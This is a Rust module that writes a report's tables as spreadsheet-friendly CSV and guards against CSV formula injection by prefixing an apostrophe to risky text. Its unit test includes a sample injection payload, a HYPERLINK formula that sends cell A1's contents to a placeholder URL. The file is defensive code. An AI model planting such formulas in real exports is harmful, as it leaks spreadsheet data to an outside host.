//! The report's tabulation as CSV: UTF-8 with a byte-order mark so spreadsheets open it as
//! UTF-8, each section a title line, a heading line and its rows, a blank line between
//! sections. With the semicolon option, numbers take decimal commas (Indonesian spreadsheets).
//! Text that a spreadsheet would run as a formula is written with a leading apostrophe.

use std::borrow::Cow;

use super::{Cell, ExportOptions, sections};
use crate::error::AppError;
use crate::reporting::UnitReport;

/// Writes the CSV.
pub fn write(report: &UnitReport, options: &ExportOptions) -> Result<Vec<u8>, AppError> {
    let (delimiter, decimal) = if options.semicolon {
        (b';', ',')
    } else {
        (b',', '.')
    };
    let mut out = Vec::from("\u{feff}".as_bytes());
    for (i, section) in sections(report, options.lang).iter().enumerate() {
        if i > 0 {
            out.extend_from_slice(b"\r\n");
        }
        let mut writer = ::csv::WriterBuilder::new()
            .delimiter(delimiter)
            .flexible(true)
            .terminator(::csv::Terminator::CRLF)
            .from_writer(&mut out);
        writer
            .write_record([formula_safe(&section.title).as_ref()])
            .map_err(AppError::internal)?;
        if !section.header.is_empty() {
            writer
                .write_record(section.header.iter().map(|h| formula_safe(h).into_owned()))
                .map_err(AppError::internal)?;
        }
        for row in &section.rows {
            writer
                .write_record(row.iter().map(|c| match c {
                    Cell::Text(text) => formula_safe(text).into_owned(),
                    number => number.display(decimal),
                }))
                .map_err(AppError::internal)?;
        }
        writer.flush().map_err(AppError::internal)?;
    }
    Ok(out)
}

/// Text as a spreadsheet shows it rather than runs it: a leading `=`, `+`, `-`, `@`, tab or
/// carriage return gets an apostrophe before it (OWASP, "CSV Injection"). Numbers never pass
/// through here; they stay numbers.
pub fn formula_safe(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::formula_safe;

    #[test]
    fn text_that_would_run_as_a_formula_gets_an_apostrophe() {
        for (text, written) in [
            (
                "=HYPERLINK(\"http://x/?d=\"&A1,\"klik\")",
                "'=HYPERLINK(\"http://x/?d=\"&A1,\"klik\")",
            ),
            ("+62 811", "'+62 811"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("Pelayanan cepat = bagus", "Pelayanan cepat = bagus"),
            ("", ""),
        ] {
            assert_eq!(formula_safe(text), written, "{text:?}");
        }
    }
}
